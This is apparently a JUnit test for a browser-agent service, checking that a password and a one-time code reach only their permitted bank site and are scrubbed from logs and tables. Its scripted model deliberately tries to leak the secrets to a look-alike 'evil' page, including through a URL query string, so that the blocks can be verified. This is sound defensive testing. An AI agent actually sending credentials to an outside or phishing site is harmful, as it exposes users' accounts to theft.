package dev.browsergrid.product;

import static dev.browsergrid.testing.ScriptedServer.call;
import static dev.browsergrid.testing.ScriptedServer.done;
import static org.assertj.core.api.Assertions.assertThat;

import dev.browsergrid.agents.safety.Totp;
import dev.browsergrid.testing.ApiClient;
import dev.browsergrid.testing.FakeWeb;
import dev.browsergrid.testing.RunLog;
import dev.browsergrid.testing.ScriptedServer;
import dev.browsergrid.testing.Tables;
import dev.browsergrid.testing.TestRun;
import dev.langchain4j.data.message.AiMessage;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.springframework.jdbc.core.simple.JdbcClient;

/// A sign-in with a password and a one-time code that no model, no event and no table ever sees.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Timeout(240)
@Order(1)
class RunSecretsTest {
    private static final String VALUE = "hunter2-Geheim";
    private static final String KEY = "JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP";
    private static final String PASSWORD = "<secret>pw</secret>";
    private static final String CODE = "<secret>otp</secret>";

    private final FakeWeb web = new FakeWeb();
    private final ScriptedServer scripted = new ScriptedServer(FakeWeb.OPEN);
    private final ApiClient ada = scripted.server().signedIn();
    private final JdbcClient jdbc = scripted.server().part(JdbcClient.class);

    @AfterAll
    void stop() {
        scripted.close();
        web.close();
    }

    @Test
    void a_password_and_a_code_reach_their_site_and_nothing_else() throws Exception {
        String login = web.page("bank", "/login", """
            <title>Bank</title><h1>Sign in</h1>
            <form action="/code"><input name="password" aria-label="Password" autocomplete="off"></form>
            """);
        // a careless site, which shows and says what it was sent
        web.page("bank", "/code", """
            <title>Code</title><h1>Code</h1><p id="echo"></p>
            <form action="/in" method="post"><input name="code" aria-label="Code"></form>
            <script>
              const sent = new URLSearchParams(location.search).get('password');
              document.getElementById('echo').textContent = 'welcome, your password is ' + sent;
              document.title = sent;
              console.error('sent ' + btoa(sent));
              localStorage.setItem('sent', sent);
            </script>
            """);
        String evil = web.page(
                "evil", "/login", "<title>Bank</title><input aria-label=\"Password\"><input aria-label=\"Code\">");
        List<Integer> sealed = new ArrayList<>();
        Instant before = Instant.now();
        teach(
                "sign in at the bank",
                List.of(
                        conversation -> {
                            sealed.add(secretsKept());
                            assertThat(conversation)
                                    .contains("- " + PASSWORD + " for bank.localhost")
                                    .contains("- " + CODE + " (one-time code) for bank.localhost");
                            return call("navigate", Map.of("url", evil));
                        },
                        page -> call("type", Map.of("ref", ref(page, "Password"), "text", PASSWORD)),
                        page -> call(
                                "fill_form",
                                Map.of("fields", List.of(Map.of("ref", ref(page, "Code"), "value", "1" + CODE)))),
                        _ -> call("navigate", Map.of("url", web.url("evil", "/") + "?q=" + PASSWORD)),
                        _ -> call("navigate", Map.of("url", login)),
                        page -> call("type", Map.of("ref", ref(page, "Password"), "text", PASSWORD, "submit", true)),
                        _ -> call("read", Map.of()),
                        page -> call("type", Map.of("ref", ref(page, "Code"), "text", CODE, "submit", true)),
                        _ -> done("signed in")));

        Map<String, Object> wish = Map.of(
                "task",
                "sign in at the bank",
                "model",
                "openai/test-gpt",
                "approval_policy",
                "auto",
                "secrets",
                Map.of(
                        "pw",
                        Map.of("value", VALUE, "domains", List.of("bank.localhost")),
                        "otp",
                        Map.of("totp", "otpauth://totp/Bank?secret=" + KEY, "domains", List.of("bank.localhost"))));
        RunLog log = TestRun.told(ada, wish);

        assertThat(log.answer()).isEqualTo("signed in");
        assertThat(log.of("action.finished").stream()
                        .map(event -> event.data().path("error_code").asString("")))
                .containsExactly("", "secret_wrong_site", "secret_wrong_site", "secret_in_url", "", "", "", "", "");
        List<String> codes = codesSince(before);
        assertThat(web.visits("bank")).contains("bank/code?password=" + VALUE);
        assertThat(web.visits("bank").stream().filter(visit -> visit.startsWith("bank/in ")))
                .singleElement()
                .satisfies(visit -> assertThat(codes).contains(visit.replace("bank/in code=", "")));
        assertThat(web.visits("evil")).noneMatch(visit -> visit.contains("hunter") || visit.contains("secret"));

        TestRun run = new TestRun(ada, log.runId());
        String told = log.summary()
                + log.events()
                + run.get()
                + run.get("/steps")
                + scripted.model().requests();
        assertThat(told).contains("welcome, your password is " + PASSWORD);
        for (String secret : secretSpellings(web.visits("bank"))) {
            assertThat(told).as("what was told").doesNotContain(secret);
            assertThat(new Tables(jdbc).holding(secret))
                    .as("tables that hold it")
                    .isEmpty();
        }
        assertThat(sealed).as("while it worked").containsExactly(1);
        assertThat(secretsKept()).as("when it is over").isZero();
    }

    private int secretsKept() {
        return jdbc.sql("SELECT count(*) FROM run_secret").query(Integer.class).single();
    }

    private static List<String> codesSince(Instant before) {
        Totp totp = Totp.parse(KEY).orElseThrow();
        return Stream.iterate(before, at -> at.isBefore(Instant.now().plusSeconds(30)), at -> at.plusSeconds(30))
                .map(totp::code)
                .toList();
    }

    private static List<String> secretSpellings(List<String> visits) {
        String code = visits.stream()
                .filter(visit -> visit.startsWith("bank/in code="))
                .findFirst()
                .orElseThrow()
                .replace("bank/in code=", "");
        String base64 = Base64.getEncoder().encodeToString(VALUE.getBytes(StandardCharsets.UTF_8));
        return List.of(VALUE, base64.replace("=", ""), KEY, "\"" + code + "\"", " " + code);
    }

    @Test
    void secrets_are_erased_with_a_run_that_never_began_and_no_key_tells_of_them() {
        ApiClient.Answer pool = ada.post("/api/v1/pools", Map.of("name", "paused", "min", 0, "max", 1));
        String id = pool.body().path("id").asString();
        ada.post("/api/v1/pools/" + id + "/pause", Map.of());
        Map<String, String> key = Map.of("Idempotency-Key", "bank-1");
        Map<String, Object> wish = Map.of(
                "task",
                "wait 1 second",
                "pool",
                id,
                "secrets",
                Map.of("pw", Map.of("value", "Other-Geheim", "domains", List.of("bank.localhost"))));
        ApiClient.Answer first = ada.post("/api/v1/cua", wish, key);
        assertThat(first.status()).as(first.body().toString()).isEqualTo(202);
        assertThat(ada.post("/api/v1/cua", wish, key).body().path("id"))
                .isEqualTo(first.body().path("id"));
        TestRun run = new TestRun(ada, first.body().path("id").asString()).await("failed");
        assertThat(jdbc.sql("SELECT count(*) FROM run_secret WHERE run_id = :id::uuid")
                        .param("id", run.id())
                        .query(Integer.class)
                        .single())
                .isZero();
        assertThat(new Tables(jdbc).holding("Other-Geheim")).isEmpty();
    }

    private void teach(String task, List<Function<String, AiMessage>> turns) {
        Iterator<Function<String, AiMessage>> rest = turns.iterator();
        scripted.teach(
                task,
                request -> ScriptedServer.response(
                        rest.next().apply(request.messages().toString())));
    }

    /// The ref of the element in the newest page whose line has the text.
    private static String ref(String conversation, String text) {
        Matcher line = Pattern.compile("textbox \"" + text + "\"[^\\n]*?\\[ref=(\\w+)]")
                .matcher(conversation.substring(conversation.lastIndexOf("<browser>")));
        assertThat(line.find()).as(conversation).isTrue();
        return line.group(1);
    }
}
